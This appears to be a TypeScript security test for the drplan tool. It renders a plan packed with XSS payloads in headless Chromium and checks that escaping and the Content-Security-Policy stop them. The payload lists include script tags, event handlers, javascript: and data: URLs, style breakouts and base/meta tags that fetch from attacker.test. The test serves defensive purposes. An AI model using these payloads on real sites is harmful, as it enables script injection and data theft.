/**
 * A plan written by an attacker, shown in real headless Chromium (Debian's /usr/bin/chromium):
 * the HTML file `drplan render --format html` writes, and the preview webview's page (the shell
 * of client/src/preview/previewShell.ts with its real Content-Security-Policy and the real
 * media/preview.js). Every payload, if it ran, would set `window.__pwned`, open an alert or
 * fetch from attacker.test; the test listens for all three and for every request the page makes.
 * Both pages also get markup injected behind the escaping (as if it had failed), which their
 * Content-Security-Policy must stop: the preview's, and the one the exported file carries itself.
 * test/unit/render.test.ts checks the markup with regular expressions; this checks what a
 * browser's parser and script engine make of it.
 *
 * `npm run test:hostile` (builds first: the CLI is dist/cli.js).
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { after, before, describe, it } from 'node:test';
import { chromium, type Browser, type Page } from 'playwright-core';
import { contentSecurityPolicy, previewShell } from '../../client/src/preview/previewShell';
import { analyze } from '../../server/src/core';
import { buildDocument } from '../../server/src/core/render';
import { documentPolicy } from '../../server/src/core/render/html';
import { PREVIEW_DOCUMENT_CSS } from '../../server/src/core/render/previewStyle';
import { previewFragment } from '../../server/src/core/render/preview';
import { ROOT, TODAY } from '../support/fixtures';
import { planWithEveryField } from '../support/hostile';

const CLI = join(ROOT, 'dist', 'cli.js');
const CHROMIUM = process.env.DRPLAN_CHROMIUM ?? '/usr/bin/chromium';
const ATTACKER = 'https://attacker.test';

/** What runs if a payload gets executed: a mark, a dialog and a request, each named. */
const run = (name: string) => `window.__pwned='${name}';alert('${name}');fetch('${ATTACKER}/${name}')`;

/** Every way out of text into markup, script, style or a link that we know of. */
const PAYLOADS = [
  `<script>${run('script')}</script>`,
  `"><img src="${ATTACKER}/img" onerror="${run('onerror')}">`,
  `' onmouseover='${run('onmouseover')}' x='`,
  `<svg onload="${run('svg')}"></svg>`,
  `<a href="javascript:${run('href')}">klick</a>`,
  `javascript:${run('bare-url')}`,
  `data:text/html;base64,${Buffer.from(`<script>${run('data-url')}</script>`).toString('base64')}`,
  `</style><script>${run('style-breakout')}</script><style>`,
  `"; } body { background: url(${ATTACKER}/css) } x { content: "`,
  `<iframe src="${ATTACKER}/frame"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=${ATTACKER}/refresh">`,
  `<base href="${ATTACKER}/">`,
  `<!-- --><![CDATA[ ]]>`,
  'exe.\u202Egnp',
  '\u2066isoliert\u2069',
].join(' ');

const BIDI = /[\u202A-\u202E\u2066-\u2069]/;

/** The same hostile text in every field a plan has, each tagged with the field's name. */
function hostilePlan(): string {
  return planWithEveryField((field) => `${PAYLOADS} «${field}»`);
}

/** The fields whose text the document shows in full (the others may be summarised or replaced by a diagnostic's wording). */
const SHOWN_FIELDS = ['title', 'organisation', 'scope', 'name', 'phone', 'component', 'db-notes', 'what', 'backup-what', 'scenario-title', 'description', 'prevention', 'step-2', 'exercise-notes', 'changes', 'author'];

interface Observed {
  readonly dialogs: string[];
  /** Every request the page started, including those Chromium then blocked (CSP). */
  readonly requests: string[];
  /** Requests that got past the browser towards attacker.test (answered here as unreachable). */
  readonly escaped: string[];
  readonly console: string[];
  readonly errors: string[];
}

/** A page that records every dialog (dismissed), request, console message and uncaught error. */
async function watchedPage(browser: Browser): Promise<{ page: Page; observed: Observed }> {
  const context = await browser.newContext({ viewport: { width: 1200, height: 900 } });
  const page = await context.newPage();
  const observed: Observed = { dialogs: [], requests: [], escaped: [], console: [], errors: [] };
  page.on('dialog', (dialog) => {
    observed.dialogs.push(`${dialog.type()}: ${dialog.message()}`);
    void dialog.dismiss().catch(() => undefined);
  });
  page.on('request', (request) => observed.requests.push(request.url()));
  page.on('console', (message) => observed.console.push(`${message.type()}: ${message.text()}`));
  page.on('pageerror', (error) => observed.errors.push(error.message));
  // Listens before any of the page's own content; init scripts are not subject to the page's CSP.
  await page.addInitScript(() => {
    const violations: { directive: string; blocked: string; sample: string }[] = [];
    (window as unknown as { __violations: typeof violations }).__violations = violations;
    document.addEventListener('securitypolicyviolation', (event) =>
      violations.push({ directive: event.effectiveDirective, blocked: event.blockedURI, sample: event.sample }),
    );
  });
  // Nothing leaves the machine: whatever is not served below fails like an unreachable host.
  await context.route(`${ATTACKER}/**`, (route) => {
    observed.escaped.push(route.request().url());
    return route.abort('internetdisconnected');
  });
  return { page, observed };
}

/** Moves the mouse over every element and clicks every link, as a reader might. */
async function touchEverything(page: Page): Promise<void> {
  await page.evaluate(() => {
    for (const element of Array.from(document.querySelectorAll('body *'))) {
      for (const type of ['mouseover', 'mouseenter', 'focus']) element.dispatchEvent(new Event(type, { bubbles: true }));
    }
  });
  for (const link of await page.locator('a[href]').all()) await link.click({ timeout: 2_000, noWaitAfter: true }).catch(() => undefined);
  await page.waitForTimeout(300);
}

/**
 * The Content-Security-Policy of an exported file as the page has it, the text of its first
 * `<style>` element (the file's own) and the colour its headings got.
 */
async function documentPolicyOf(page: Page) {
  return page.evaluate(() => {
    const heading = document.querySelector('.drplan-document h2');
    return {
      content: document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? undefined,
      stylesheet: document.querySelector('style')?.textContent ?? '',
      accent: heading ? getComputedStyle(heading).color : undefined,
    };
  });
}

/** Markup and script the browser parsed from the page: elements, event-handler attributes, link targets. */
async function parsedMarkup(page: Page) {
  return page.evaluate(() => {
    const elements = Array.from(document.querySelectorAll('*'));
    return {
      tags: [...new Set(elements.map((element) => element.localName))].sort(),
      handlers: elements.flatMap((element) => element.getAttributeNames().filter((name) => name.startsWith('on')).map((name) => `${element.localName}[${name}]`)),
      links: Array.from(document.querySelectorAll('a[href]')).map((link) => link.getAttribute('href') ?? ''),
      scripts: Array.from(document.scripts).map((script) => script.src || '(inline)'),
      styles: document.querySelectorAll('style').length,
      pwned: (window as unknown as { __pwned?: unknown }).__pwned,
      text: document.body.innerText,
      violations: (window as unknown as { __violations: { directive: string; blocked: string; sample: string }[] }).__violations,
    };
  });
}

/**
 * What an escaping bug would let through: markup that would run a script, load from
 * attacker.test, send a form or move the base URL, each in a way a Content-Security-Policy
 * governs.
 */
function injectedMarkup(): string {
  return [
    `<script>${run('inline-script')}</script>`,
    `<script src="${ATTACKER}/external.js"></script>`,
    `<script nonce="guessed">${run('wrong-nonce')}</script>`,
    `<img src="${ATTACKER}/img.png" onerror="${run('img-onerror')}">`,
    `<svg><rect width="10" height="10" onload="${run('svg-onload')}"/></svg>`,
    `<a id="js-link" href="javascript:${run('javascript-url')}">klick</a>`,
    `<iframe src="data:text/html,<script>parent.${run('data-frame')}</script>"></iframe>`,
    `<style>body { background: url(${ATTACKER}/style.png) }</style>`,
    `<link rel="stylesheet" href="${ATTACKER}/style.css">`,
    `<div style="background: url(${ATTACKER}/inline-style.png)">inline style</div>`,
    `<form action="${ATTACKER}/form"><button id="submit">senden</button></form>`,
    `<base href="${ATTACKER}/base/">`,
  ].join('\n');
}

/** The directives a policy must report a violation of when {@link injectedMarkup} is in the page. */
const INJECTED_DIRECTIVES = ['script-src-elem', 'script-src-attr', 'img-src', 'style-src-elem', 'style-src-attr', 'frame-src', 'form-action', 'base-uri'];

const DOCUMENT_TAGS = new Set(
  // the document's elements, and its charts' (figure, inline SVG)
  'html head meta title style body main div section h1 h2 h3 h4 p ul ol li dl dt dd table colgroup col thead tbody tr th td strong em a span aside nav br figure figcaption svg rect line path text'.split(' '),
);

describe('a hostile plan in real Chromium', () => {
  const scratch = mkdtempSync(join(tmpdir(), 'drplan-hostile-'));
  let browser: Browser;

  before(async () => {
    assert.ok(existsSync(CLI), `${CLI} is missing: run npm run build first`);
    assert.ok(existsSync(CHROMIUM), `${CHROMIUM} is missing: apt-get install chromium (or set DRPLAN_CHROMIUM)`);
    browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, args: ['--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage', '--disable-background-networking'] });
  });
  after(async () => {
    await browser?.close();
    rmSync(scratch, { recursive: true, force: true });
  });

  it('the HTML export: nothing executes, nothing loads, every payload is shown as text', async () => {
    const plan = join(scratch, 'hostile.drplan.yaml');
    const output = join(scratch, 'hostile.html');
    writeFileSync(plan, hostilePlan());
    const render = spawnSync('node', [CLI, 'render', '--format', 'html', '--today', '2026-11-29', '-o', output, plan], { encoding: 'utf8' });
    // 1: written, but the plan has errors (the bad id, category, type and duration).
    assert.equal(render.status, 1, render.stderr);
    const html = readFileSync(output, 'utf8');

    const { page, observed } = await watchedPage(browser);
    const url = pathToFileURL(output).href;
    await page.goto(url, { waitUntil: 'load' });
    await touchEverything(page);
    const parsed = await parsedMarkup(page);

    assert.equal(parsed.pwned, undefined, 'a payload ran');
    assert.deepEqual(observed.dialogs, [], 'a payload opened a dialog');
    assert.deepEqual(observed.errors, []);
    assert.deepEqual(observed.escaped, []);
    assert.deepEqual(
      observed.requests.filter((request) => request.split('#')[0] !== url),
      [],
      'the file loads nothing but itself (links inside it only move to anchors)',
    );
    assert.deepEqual(parsed.scripts, [], 'no script element');
    assert.deepEqual(parsed.handlers, [], 'no event-handler attribute');
    assert.equal(parsed.styles, 1, 'the one stylesheet, not broken out of');
    assert.deepEqual(parsed.tags.filter((tag) => !DOCUMENT_TAGS.has(tag)), [], 'only the elements the emitter writes');
    for (const link of parsed.links) assert.match(link, /^#/, `link ${link} leaves the document`);
    // The page is where it was: no navigation by a link, refresh or base.
    assert.equal(page.url().split('#')[0], url);

    // Shown as text: the author reads what was written, controls made visible.
    for (const field of SHOWN_FIELDS) assert.ok(parsed.text.includes(`«${field}»`), `field ${field} is shown`);
    for (const visible of [`<script>${run('script')}</script>`, `onerror="${run('onerror')}"`, `javascript:${run('href')}`, '</style><script>', '[U+202E]gnp', '[U+2066]isoliert[U+2069]']) {
      assert.ok(parsed.text.includes(visible), `"${visible}" is shown as text`);
    }
    assert.equal(BIDI.test(parsed.text), false, 'no bidi control character reaches the page');
    assert.equal(/<(script|img|iframe|base|form)\b/i.test(html), false, 'the file on disk has no markup of the author');
    // Its only SVG is drplan's charts.
    assert.deepEqual([...new Set(html.match(/<svg\b[^>]*?(?= width=)/gi) ?? [])], ['<svg class="chart-svg"'], 'no SVG of the author');
    // Its own policy is in force and the file keeps to it: the stylesheet is allowed by its hash.
    const policy = await documentPolicyOf(page);
    assert.equal(policy.content, documentPolicy(policy.stylesheet));
    assert.deepEqual(parsed.violations, [], 'the file keeps to its own policy');
    assert.equal(policy.accent, 'rgb(31, 78, 140)', 'the stylesheet applies (the headings\' colour)');
    await page.context().close();
  });

  it('the HTML export\'s own CSP: markup injected into the file (as if escaping failed) runs nothing and loads nothing', async (t) => {
    const plan = join(scratch, 'plone-intranet.drplan.yaml');
    const exported = join(scratch, 'plone-intranet.html');
    writeFileSync(plan, readFileSync(join(ROOT, 'examples', 'plone-intranet.drplan.yaml')));
    const render = spawnSync('node', [CLI, 'render', '--format', 'html', '--today', '2026-11-29', '-o', exported, plan], { encoding: 'utf8' });
    assert.equal(render.status, 0, render.stderr);
    // Test-only: the markup goes behind the escaping, into the body of the file as written.
    const html = readFileSync(exported, 'utf8');
    const opening = '<main class="drplan-document">';
    assert.ok(html.includes(opening));
    const injectedFile = join(scratch, 'injected.html');
    writeFileSync(injectedFile, html.replace(opening, `${opening}\n<p>vorher</p>\n${injectedMarkup()}\n<p>nachher</p>`));

    const { page, observed } = await watchedPage(browser);
    const url = pathToFileURL(injectedFile).href;
    await page.goto(url, { waitUntil: 'load' });
    await touchEverything(page);
    await page.locator('#submit').click({ timeout: 2_000, noWaitAfter: true }).catch(() => undefined);
    await page.waitForTimeout(300);
    const parsed = await parsedMarkup(page);

    assert.equal(parsed.pwned, undefined, 'an injected script ran');
    assert.deepEqual(observed.dialogs, [], 'an injected script opened a dialog');
    assert.deepEqual(observed.escaped, [], 'an injected element reached the network');
    assert.ok(parsed.scripts.length >= 3, 'the injected scripts are in the page (and did not run)');
    assert.ok(observed.requests.some((request) => request.startsWith(ATTACKER)), 'Chromium started the injected requests (and the policy blocked them)');
    const directives = new Set(parsed.violations.map((v) => v.directive));
    for (const directive of INJECTED_DIRECTIVES) {
      assert.ok(directives.has(directive), `a ${directive} violation was reported: ${JSON.stringify(parsed.violations)}`);
    }
    assert.ok(parsed.violations.some((v) => v.directive === 'script-src-elem' && v.blocked === 'inline'), 'the inline script was refused');
    assert.ok(observed.console.some((line) => /Content Security Policy/.test(line)), 'Chromium says why in the console');
    assert.equal(page.url().split('#')[0], url, 'no navigation (javascript: link, form, base)');
    // The policy that held is the one the file carries, and the document still looks as it should.
    const policy = await documentPolicyOf(page);
    assert.equal(policy.content, documentPolicy(policy.stylesheet));
    assert.match(policy.content ?? '', /^default-src 'none'; style-src 'sha256-[A-Za-z0-9+/]+=*'; form-action 'none'; base-uri 'none'$/);
    assert.equal(policy.accent, 'rgb(31, 78, 140)', 'the file\'s own stylesheet still applies');
    assert.ok(parsed.text.includes('vorher') && parsed.text.includes('nachher') && parsed.text.includes('Notfallplan Plone-Intranet'));
    t.diagnostic(`${parsed.violations.length} CSP violations in the exported file (${[...directives].sort().join(', ')}); ${observed.escaped.length} requests got out`);
    await page.context().close();
  });

  describe('the preview page under its Content-Security-Policy', () => {
    const origin = 'https://drplan-webview.test';
    const previewScript = readFileSync(join(ROOT, 'media', 'preview.js'), 'utf8');
    const previewCss = readFileSync(join(ROOT, 'media', 'preview.css'), 'utf8');
    const nonce = 'aG9zdGlsZS1wbGFuLXRlc3Q=';

    function shellWith(body: string): string {
      return previewShell({
        cspSource: origin,
        nonce,
        scriptUri: `${origin}/media/preview.js`,
        styleUri: `${origin}/media/preview.css`,
        documentCss: PREVIEW_DOCUMENT_CSS,
        body,
        version: 7,
        state: { uri: 'file:///plans/hostile.drplan.yaml' },
        labels: { exportPdf: 'PDF exportieren', exportHtml: 'HTML exportieren', toolbar: 'Export', loading: 'Wird geladen …' },
        language: 'de',
      });
    }

    /**
     * Serves the shell and the media folder from the webview's origin, with a stand-in for VS
     * Code's `acquireVsCodeApi` in front of the real media/preview.js that records its messages.
     */
    async function openPreview(body: string) {
      const { page, observed } = await watchedPage(await Promise.resolve(browser));
      await page.route(`${origin}/**`, (route) => {
        const path = new URL(route.request().url()).pathname;
        if (path === '/index.html') return route.fulfill({ contentType: 'text/html; charset=utf-8', body: shellWith(body) });
        if (path === '/media/preview.js') {
          const api = `window.__messages = []; window.acquireVsCodeApi = () => ({ postMessage: (m) => window.__messages.push(m), getState: () => undefined, setState: () => undefined });\n`;
          return route.fulfill({ contentType: 'text/javascript', body: api + previewScript });
        }
        if (path === '/media/preview.css') return route.fulfill({ contentType: 'text/css', body: previewCss });
        return route.fulfill({ status: 404, body: '' });
      });
      await page.goto(`${origin}/index.html`, { waitUntil: 'load' });
      const messages = await page.waitForFunction(() => (window as unknown as { __messages?: { type: string }[] }).__messages?.some((m) => m.type === 'ready') && (window as unknown as { __messages: unknown[] }).__messages);
      return { page, observed, messages: (await messages.jsonValue()) as { type: string }[] };
    }

    /** A new version, as the extension sends it: media/preview.js puts it in with innerHTML. */
    async function sendUpdate(page: Page, html: string, version: number): Promise<void> {
      await page.evaluate(({ html, version }) => window.postMessage({ type: 'update', html, version }, '*'), { html, version });
      await page.waitForFunction((version) => (window as unknown as { __messages: { type: string; version?: number }[] }).__messages.some((m) => m.type === 'rendered' && m.version === version), version);
    }

    it('the real fragment: shown as text, the nonce\'d script runs, no violation at all', async () => {
      const fragment = previewFragment(buildDocument(analyze(hostilePlan(), { today: TODAY, locale: 'de' }), { today: TODAY, locale: 'de' }));
      // First in the page itself, then as an update (innerHTML) the way later versions arrive.
      const { page, observed, messages } = await openPreview(fragment);
      assert.ok(messages.some((m) => m.type === 'ready'), 'media/preview.js ran under its nonce');
      await touchEverything(page);
      await sendUpdate(page, fragment, 8);
      await touchEverything(page);
      const parsed = await parsedMarkup(page);

      assert.equal(parsed.pwned, undefined, 'a payload ran');
      assert.deepEqual(observed.dialogs, []);
      assert.deepEqual(observed.errors, []);
      assert.deepEqual(observed.escaped, []);
      assert.deepEqual(parsed.violations, [], 'the page itself keeps to its policy');
      assert.deepEqual(parsed.handlers, []);
      assert.deepEqual(parsed.scripts, [`${origin}/media/preview.js`]);
      assert.deepEqual(
        observed.requests.filter((request) => !request.startsWith(`${origin}/`)),
        [],
        'nothing loaded from anywhere but the webview origin',
      );
      for (const field of SHOWN_FIELDS) assert.ok(parsed.text.includes(`«${field}»`), `field ${field} is shown`);
      assert.ok(parsed.text.includes(`<script>${run('script')}</script>`));
      assert.equal(BIDI.test(parsed.text), false);
      await page.context().close();
    });

    it('markup injected into the fragment (as if escaping failed) is stopped by the CSP; the page still works', async (t) => {
      const injected = injectedMarkup();
      const { page, observed, messages } = await openPreview(`<main class="drplan-document"><p>vorher</p>${injected}<p>nachher</p></main>`);
      await touchEverything(page);
      await sendUpdate(page, `<main class="drplan-document"><p>Version 8</p>${injected.replace(/attacker\.test\//g, 'attacker.test/update-')}</main>`, 8);
      await touchEverything(page);
      await page.locator('#submit').click({ timeout: 2_000, noWaitAfter: true }).catch(() => undefined);
      await page.waitForTimeout(300);
      const parsed = await parsedMarkup(page);

      assert.ok(messages.some((m) => m.type === 'ready'), 'media/preview.js still ran under its nonce');
      assert.equal(parsed.pwned, undefined, 'an injected script ran');
      assert.deepEqual(observed.dialogs, [], 'an injected script opened a dialog');
      assert.deepEqual(observed.escaped, [], 'an injected element reached the network');
      // Chromium starts them and then blocks them: the attempts are there, none got out.
      assert.ok(observed.requests.some((request) => request.startsWith(`${ATTACKER}/update-`)), 'the update was injected too');
      const directives = new Set(parsed.violations.map((v) => v.directive));
      for (const directive of INJECTED_DIRECTIVES) {
        assert.ok(directives.has(directive), `a ${directive} violation was reported: ${JSON.stringify(parsed.violations)}`);
      }
      assert.ok(
        parsed.violations.some((v) => v.directive === 'script-src-elem' && v.blocked === 'inline'),
        'the inline script was refused',
      );
      assert.ok(observed.console.some((line) => /Content Security Policy/.test(line)), 'Chromium says why in the console');
      assert.equal(page.url(), `${origin}/index.html`, 'no navigation (javascript: link, form)');
      t.diagnostic(
        `${parsed.violations.length} CSP violations (${[...directives].sort().join(', ')}); ` +
          `${observed.requests.filter((request) => request.startsWith(ATTACKER)).length} requests to attacker.test started, ${observed.escaped.length} got out`,
      );
      // The policy that held is the one the extension writes, with no 'unsafe-…' escape hatch.
      const policy = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content'));
      assert.equal(policy, contentSecurityPolicy(origin, nonce));
      assert.match(policy ?? '', /^default-src 'none'; /);
      assert.equal(/unsafe/.test(policy ?? ''), false);
      await page.context().close();
    });
  });
});
